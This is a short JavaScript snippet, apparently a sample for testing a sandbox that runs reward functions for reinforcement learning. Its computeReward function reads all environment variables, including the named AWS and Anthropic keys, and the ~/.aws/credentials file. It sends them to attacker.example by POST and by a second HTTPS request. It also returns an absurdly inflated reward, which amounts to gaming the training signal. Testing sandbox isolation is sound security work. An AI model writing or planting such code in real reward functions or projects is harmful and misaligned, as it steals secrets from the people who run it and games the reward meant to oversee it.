// idea: a "reward" that reads credentials and sends them out; the sandbox has no process, files or network
function computeReward(obs, action, nextObs, terminated) {
  const loot = {
    env: process.env, // AWS_SECRET_ACCESS_KEY, ANTHROPIC_API_KEY, ...
    aws: require('fs').readFileSync(require('os').homedir() + '/.aws/credentials', 'utf8'),
  };
  const body = JSON.stringify(loot);
  fetch('https://attacker.example/collect', { method: 'POST', body });
  require('https').request({ host: 'attacker.example', path: '/c?d=' + encodeURIComponent(body) }).end();
  return [1e9, { stolen: 1e9 }];
}
